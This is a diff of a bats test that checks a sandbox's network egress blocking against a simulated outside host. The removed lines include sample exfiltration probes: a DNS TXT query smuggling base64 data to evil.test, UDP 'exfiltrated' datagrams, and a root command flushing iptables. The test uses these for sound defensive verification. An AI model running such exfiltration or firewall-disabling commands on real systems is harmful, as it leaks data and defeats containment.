@@ -1,7 +1,7 @@
 #!/usr/bin/env bats
-# A sandbox's network, from inside, against a stand-in internet (a network namespace of the
-# test's own at 198.51.100.2 with a web server on ports 80 and 8080, a UDP listener and a DNS
-# server for fake names). Allowed names work; as root inside, every other way out fails fast;
+# A sandbox's network, from inside, against a stand-in internet (fake_internet_up: a network
+# namespace of the file's own at 198.51.100.2 with web servers, a UDP sink and a DNS server for
+# fake names). Allowed names work; as root inside, every other way out fails fast;
 # policy changes count without a restart; ss-net gone means no network until ss starts it again.
 # Runs once per backend (SS_E2E_BACKEND; Docker when run alone).
 
@@ -10,58 +10,21 @@ load helpers
 setup_file() {
   export SS_E2E_BACKEND=${SS_E2E_BACKEND:-docker}
   e2e_sandbox_file eg
-  FI_NS="ss-fi-$$"
-  FI_IF="ssfi$$"
-  echo "$FI_NS $FI_IF" >"$BATS_FILE_TMPDIR/fake_inet"
-  ip netns add "$FI_NS"
-  ip link add "${FI_IF:0:15}" type veth peer name fi-in netns "$FI_NS"
-  ip addr add 198.51.100.1/24 dev "${FI_IF:0:15}"
-  ip link set "${FI_IF:0:15}" up
-  ip -n "$FI_NS" addr add 198.51.100.2/24 dev fi-in
-  ip -n "$FI_NS" link set fi-in up
-  ip -n "$FI_NS" link set lo up
-  ip -n "$FI_NS" route add default via 198.51.100.1
-  W=$BATS_FILE_TMPDIR
-  mkdir -p "$W/www"
-  echo "outside says hi" >"$W/www/index.html"
-  local port
-  for port in 80 8080; do
-    ip netns exec "$FI_NS" python3 "$SS_SOURCE_DIR/tests/cli/web_server.py" 198.51.100.2 "$port" \
-      "$W/www" >"$W/web$port" 2>&1 3>&- &
-    echo $! >>"$W/pids"
-  done
-  ip netns exec "$FI_NS" python3 "$SS_SOURCE_DIR/tests/cli/dns_server.py" 198.51.100.2 53 \
-    "$W/dns.queries" allowed.test=198.51.100.2 evil.test=198.51.100.2 \
-    config.test=198.51.100.2 >"$W/dns" 2>&1 3>&- &
-  echo $! >>"$W/pids"
-  ip netns exec "$FI_NS" python3 -c '
-import socket, sys
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.bind(("198.51.100.2", 9999))
-while True:
-    data, peer = u.recvfrom(4096)
-    open(sys.argv[1], "ab").write(data + b"\n")' "$W/udp.got" 3>&- &
-  echo $! >>"$W/pids"
-  export SS_NET_UPSTREAM_DNS=198.51.100.2
+  fake_internet_up allowed.test evil.test config.test
   ss vm start --sandbox "$SANDBOX" --backend "$SS_E2E_BACKEND" >&3 2>&1
   ss net allow allowed.test --sandbox "$SANDBOX" >/dev/null
 }
 
 teardown_file() {
   e2e_env
-  export SS_NET_UPSTREAM_DNS=198.51.100.2
+  fake_internet_env
   e2e_sandbox_remove
-  local pid
-  for pid in $(cat "$BATS_FILE_TMPDIR/pids" 2>/dev/null); do kill "$pid" 2>/dev/null || true; done
-  read -r FI_NS FI_IF <"$BATS_FILE_TMPDIR/fake_inet" || true
-  [ -z "${FI_NS:-}" ] || ip netns del "$FI_NS" 2>/dev/null || true
-  [ -z "${FI_IF:-}" ] || ip link del "${FI_IF:0:15}" 2>/dev/null || true
+  fake_internet_down
 }
 
 setup() {
   e2e_sandbox_env
-  export SS_NET_UPSTREAM_DNS=198.51.100.2
-  W=$BATS_FILE_TMPDIR
+  fake_internet_env
 }
 
 in_sandbox() { sandbox_ssh "$SANDBOX" "$@"; }
@@ -124,39 +87,20 @@ as_root() { sandbox_ssh "$SANDBOX" sudo -n "$@"; }
 
 @test "egress: as root inside, nothing else gets out, and it fails fast" {
   local start=$SECONDS
-  run as_root curl -sS -m 10 http://198.51.100.2:8080/
-  assert_failure 7
-  # A TXT lookup carrying data, sent straight to an outside resolver: answered NXDOMAIN by
-  # ss-net's resolver, never seen outside.
-  run as_root python3 - <<'EOF'
-import socket, struct
-q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
-for label in b"c2VjcmV0.evil.test".split(b"."):
-    q += bytes([len(label)]) + label
-q += b"\0" + struct.pack("!HH", 16, 1)
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.settimeout(5)
-u.sendto(q, ("198.51.100.2", 53))
-print("rcode", u.recv(512)[3] & 15)
-EOF
-  assert_output "rcode 3"
-  run as_root ping -c 1 -W 2 198.51.100.2
-  assert_failure
-  as_root python3 - <<'EOF'
-import socket
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-for _ in range(3):
-    u.sendto(b"exfiltrated", ("198.51.100.2", 9999))
-EOF
-  # Root drops the sandbox's own firewall and changes its routes: no difference.
-  as_root sh -c 'iptables -P OUTPUT ACCEPT; iptables -F; ip route replace 198.51.100.0/24 dev eth0' || true
-  run as_root curl -sS -m 10 http://198.51.100.2:8080/
-  assert_failure
-  [ $((SECONDS - start)) -lt 60 ]
+  gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
+  run as_root python3 - 198.51.100.2 "$gateway" 3128 <"$SS_SOURCE_DIR/tests/e2e/bypass.py"
+  echo "# bypass attempts on $SS_E2E_BACKEND: ${lines[-1]}" >&3
+  refute_line --partial "LEAKED"
+  assert_line "tried 18 blocked 18"
+  [ $((SECONDS - start)) -lt 120 ]
+  # Nothing arrived outside: no datagram, no lookup of a disallowed name.
   sleep 1
-  assert_file_not_exists "$W/udp.got"
-  run grep -c evil "$W/dns.queries"
+  assert_file_not_exists "$FI_DIR/udp.got"
+  run grep -c evil "$FI_DIR/dns.queries"
   assert_output 0
+  # And the sandbox's refused connections are in the log, with their reason.
+  run ss net log --json --sandbox "$SANDBOX"
+  echo "$output" | jq -e -s 'map(select(.verdict != "allow" and .destination == "evil.test")) | length >= 2'
 }
 
 @test "egress: ss net allow counts at once; with ss-net gone nothing passes until ss starts it again" {
